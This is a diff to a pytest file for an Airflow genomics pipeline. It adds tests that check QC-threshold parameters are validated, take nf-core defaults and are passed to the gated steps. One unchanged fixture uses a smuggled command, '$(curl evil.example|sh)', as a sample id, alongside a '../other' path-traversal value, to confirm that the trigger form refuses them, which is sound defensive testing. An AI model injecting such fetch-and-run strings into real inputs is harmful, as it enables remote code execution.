@@ -121,6 +121,12 @@ def test_all_approved_resolves_through_the_registry_and_refuses_an_empty_project
     ({"samples": [1, 2]}, "invalid sample id"),
     ({"samples": {"S1": True}}, "non-empty list"),
     ({"samples": [f"S{i}" for i in range(10_001)]}, "at most 10000 samples"),
+    ({"min_q30_rate": 1.5}, r"min_q30_rate must be a number from 0 to 1, got 1\.5"),
+    ({"min_reads": "10000"}, "min_reads must be a whole number of at least 1, got '10000'"),
+    ({"min_reads": 0}, "min_reads must be a whole number of at least 1, got 0"),
+    ({"min_reads": True}, "min_reads must be a whole number of at least 1, got True"),
+    ({"min_mapping_rate": -0.01}, r"min_mapping_rate must be a number from 0 to 1, got -0\.01"),
+    ({"min_mapping_rate": float("nan")}, "min_mapping_rate must be a number from 0 to 1, got nan"),
 ])
 def test_bad_run_config_is_refused_with_a_clear_message(change, message):
     with pytest.raises(RunConfigError, match=message):
@@ -189,6 +195,10 @@ def test_pipeline_dags_chain_their_steps_per_sample_and_publish_their_tables(dag
     {"samples": [f"S{i}" for i in range(10_001)]},
     {"samples": ["S1", "$(curl evil.example|sh)"]},
     {"reference": "../other"},
+    {"min_reads": "many"},
+    {"min_reads": 0},
+    {"min_q30_rate": 1.5},
+    {"min_mapping_rate": -0.1},
 ])
 def test_the_trigger_form_refuses_bad_params(dagbag, dag_id, change):
     from airflow.sdk.exceptions import ParamValidationError
@@ -197,6 +207,25 @@ def test_the_trigger_form_refuses_bad_params(dagbag, dag_id, change):
     with pytest.raises(ParamValidationError):
         params.update(change)
         params.validate()
+
+
+def test_qc_gate_defaults_follow_nf_core_rnaseq():
+    """nf-core/rnaseq: min_trimmed_reads 10000, min_mapped_reads 5 (percent); it has no Q30 minimum."""
+    params = pipeline_params()
+    assert (params["min_reads"].value, params["min_mapping_rate"].value, params["min_q30_rate"].value) == (
+        10_000, 0.05, 0.0)
+    assert plan(FakeLake(["S1"]))["todo"] == ["S1"], "a run config without them takes the defaults"
+
+
+@pytest.mark.parametrize("dag_id, task_id, passed", [
+    ("rnaseq", "fastp", {"--min-reads": "min_reads", "--min-q30-rate": "min_q30_rate"}),
+    ("rnaseq", "salmon_quant", {"--min-mapping-rate": "min_mapping_rate"}),
+    ("germline", "markdup", {"--min-reads": "min_reads", "--min-mapping-rate": "min_mapping_rate"}),
+])
+def test_the_gated_steps_get_the_runs_qc_minimums(dagbag, dag_id, task_id, passed):
+    command = dagbag.dags[dag_id].get_task(f"per_sample.{task_id}").command
+    for flag, param in passed.items():
+        assert command[command.index(flag) + 1] == f"{{{{ params.{param} }}}}"
 
 
 def test_the_trigger_form_accepts_a_list_or_all_approved(dagbag):
